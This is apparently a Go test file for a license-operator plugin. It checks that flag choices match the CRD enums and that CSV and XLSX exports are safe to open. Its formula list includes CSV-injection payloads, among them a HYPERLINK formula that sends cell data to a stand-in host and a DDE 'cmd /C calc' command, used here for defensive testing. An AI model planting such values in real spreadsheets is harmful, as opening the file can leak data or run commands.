package plugin

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"sigs.k8s.io/yaml"

	"github.com/partnerops/license-operator/api/v1alpha1"
)

// crdEnum reads the enum of a field of the LicenseOrder CRD as generated from the API's markers:
// path names the properties from the openAPIV3Schema down.
func crdEnum(t *testing.T, path ...string) []string {
	t.Helper()
	raw, err := os.ReadFile(filepath.Join("..", "..", "config", "crd", "bases", "licensing.partnerops.io_licenseorders.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	var crd struct {
		Spec struct {
			Versions []struct {
				Schema struct {
					OpenAPIV3Schema schemaProps `json:"openAPIV3Schema"`
				} `json:"schema"`
			} `json:"versions"`
		} `json:"spec"`
	}
	if err := yaml.Unmarshal(raw, &crd); err != nil {
		t.Fatal(err)
	}
	s := crd.Spec.Versions[0].Schema.OpenAPIV3Schema
	for _, p := range path {
		next, ok := s.Properties[p]
		if !ok {
			t.Fatalf("the CRD has no property %s in %v", p, path)
		}
		s = next
	}
	return s.Enum
}

type schemaProps struct {
	Properties map[string]schemaProps `json:"properties"`
	Enum       []string               `json:"enum"`
}

func names[T ~string](cs []T) []string {
	out := make([]string, len(cs))
	for i, c := range cs {
		out[i] = string(c)
	}
	return out
}

// The choices of --change and --state are the API's enums: every change kind and state the API
// server accepts, and nothing else.
func TestHistoryAcceptsEveryEnumValue(t *testing.T) {
	for _, tt := range []struct {
		flag   string
		path   []string
		listed []string
		set    func(*historyFlags, string)
	}{
		{"--change", []string{"spec", "change"}, names(orderChanges), func(f *historyFlags, v string) { f.change = v }},
		{"--state", []string{"status", "state"}, names(orderStates), func(f *historyFlags, v string) { f.state = v }},
	} {
		enum := crdEnum(t, tt.path...)
		if len(enum) == 0 || !slices.Equal(enum, tt.listed) {
			t.Errorf("%s: the choices %v differ from the CRD's enum %v", tt.flag, tt.listed, enum)
		}
		for _, v := range enum {
			var hf historyFlags
			tt.set(&hf, v)
			f, err := hf.filter()
			if err != nil {
				t.Errorf("%s %s is refused: %v", tt.flag, v, err)
				continue
			}
			if got := string(f.change) + string(f.state); got != v {
				t.Errorf("%s %s selects %q", tt.flag, v, got)
			}
		}
	}
	for _, c := range []v1alpha1.OrderChange{v1alpha1.ChangeTrial, v1alpha1.ChangeConversion} {
		o := order("acme", "eul-1", march10, c, "0.00", march10)
		f, err := historyFlags{change: string(c)}.filter()
		if err != nil {
			t.Fatalf("--change %s: %v", c, err)
		}
		if !f.matches(&o) {
			t.Errorf("--change %s does not match an order of that change", c)
		}
	}
}

// formulas are texts a spreadsheet would read as a formula or a command (CSV injection).
var formulas = []string{"=HYPERLINK(\"http://x.example/?\"&A1,\"PO\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
	"=cmd|' /C calc'!A0"}

// Every text a person wrote (reference, customer, cost center, user) is exported safe to open: in
// CSV, a text a spreadsheet would read as a formula is prefixed with a quote; numbers and amounts
// are written as they are. In XLSX, text is a text cell, never a formula.
func TestExportsAreSafeToOpen(t *testing.T) {
	var orders []v1alpha1.LicenseOrder
	for i, f := range formulas {
		o := order("acme", "eul-"+string(rune('a'+i)), march10, v1alpha1.ChangeNew, "14.19", march10)
		o.Spec.PurchaseReference, o.Spec.Customer, o.Spec.CostCenter, o.Spec.RequestedBy = f, f, f, f
		orders = append(orders, o)
	}
	s := historySheet(orders)
	var buf bytes.Buffer
	if err := writeCSV(&buf, s); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := func(title string) int { return slices.Index(recs[0], title) }
	for i, f := range formulas {
		rec := recs[i+1]
		for _, title := range []string{"User", "Reference", "Customer", "Cost center"} {
			// A CSV with CRLF line ends drops a carriage return that ends no line.
			if got := rec[col(title)]; got != "'"+strings.ReplaceAll(f, "\r", "") {
				t.Errorf("%s %q is exported as %q, want it prefixed with a quote", title, f, got)
			}
		}
		if got := rec[col("Charge")]; got != "14.19" {
			t.Errorf("the charge 14.19 is exported as %q", got)
		}
	}
	for _, safe := range []string{"PO-1", "", "a=b", " =x"} {
		if got := safeText(safe); got != safe {
			t.Errorf("safeText(%q) = %q, want it as it is", safe, got)
		}
	}

	f := readBack(t, s)
	rows, err := f.GetRows(s.name)
	if err != nil {
		t.Fatal(err)
	}
	for r := range rows {
		for c := range rows[r] {
			ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
			if formula, _ := f.GetCellFormula(s.name, ref); formula != "" {
				t.Errorf("cell %s of the workbook is a formula: %q", ref, formula)
			}
		}
	}
	ref, _ := excelize.CoordinatesToCellName(slices.Index(s.columns, "Reference")+1, 2)
	if got, _ := f.GetCellValue(s.name, ref); got != formulas[0] {
		t.Errorf("the reference shows as %q in the workbook, want the text %q", got, formulas[0])
	}
	if typ, _ := f.GetCellType(s.name, ref); typ == excelize.CellTypeFormula {
		t.Errorf("the reference is a formula cell")
	}
}
